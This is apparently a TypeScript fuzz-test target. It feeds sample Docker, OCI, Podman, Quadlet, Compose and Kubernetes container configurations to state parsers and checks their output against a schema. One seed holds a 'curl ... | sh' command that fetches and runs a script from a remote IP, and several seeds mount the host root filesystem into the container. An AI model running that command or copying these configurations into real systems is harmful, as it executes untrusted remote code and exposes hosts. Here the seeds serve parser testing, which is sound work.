/** What container runtimes keep: nothing throws, whatever stands there, and what is told has the form it must have. */
import { composeServices } from '../../src/codec/container-state/compose.ts';
import { dockerContainer, dockerImages } from '../../src/codec/container-state/docker.ts';
import { type ContainerFacts, jsonOf } from '../../src/codec/container-state/facts.ts';
import { ociContainer } from '../../src/codec/container-state/oci-spec.ts';
import { podmanContainers } from '../../src/codec/container-state/podman-database.ts';
import { quadletContainer } from '../../src/codec/container-state/quadlet.ts';
import { storedContainers } from '../../src/codec/container-state/storage.ts';
import { readBlockYaml } from '../../src/codec/kubernetes-objects/block-yaml.ts';
import { containersOfObject } from '../../src/codec/kubernetes-objects/workloads.ts';
import { toldContainer } from '../../src/extract/cluster/container-told.ts';
import { containerSchema } from '../../src/model/machine-payloads.ts';
import { rangedBytes } from '../../src/model/ranged-bytes.ts';
import type { FuzzTarget } from '../target.ts';

const seeds = [
  '{"ID":"ab","Path":"sh","Args":["-c","curl -s http://198.51.100.7/x|sh"],"Config":{"Image":"a","Env":["A=b"],"Labels":{}},"State":{"Running":true},"MountPoints":{"/mnt":{"Source":"/","Destination":"/mnt"}}}',
  '{"process":{"args":["/x"],"env":["A=b"]},"mounts":[{"source":"/","destination":"/mnt"}],"linux":{"namespaces":[{"type":"pid"}]},"annotations":{}}',
  '[{"id":"abcdef123456","names":["a"],"layer":"abcdef123456","metadata":"{\\"image-name\\":\\"x\\"}"}]',
  '[Container]\nImage=alpine\nExec=sh -c "x"\nVolume=/:/mnt\n[Service]\nRestart=always\n',
  'services:\n  a:\n    image: x\n    command: ["a", b]\n    volumes:\n    - /:/mnt\n    environment: {A: b}\n',
];

export const target: FuzzTarget = {
  id: 'container-state',
  seeds: () => seeds.map((text) => new TextEncoder().encode(text)),
  run(bytes) {
    const text = new TextDecoder().decode(bytes);
    for (const value of [jsonOf(bytes), ...readBlockYaml(text).documents]) {
      if (value === undefined) continue;
      storedContainers(value);
      dockerImages(value);
      check(dockerContainer(value, value), ociContainer(value, 'containerd', 'x'));
      check(...composeServices(value, 'x'), ...containersOfObject(value));
    }
    check(quadletContainer(text, 'x'), ...(podmanContainers(rangedBytes(bytes))?.values() ?? []));
  },
};

function check(...found: readonly (ContainerFacts | undefined)[]): void {
  for (const facts of found) if (facts) containerSchema.parse(toldContainer(facts).value);
}
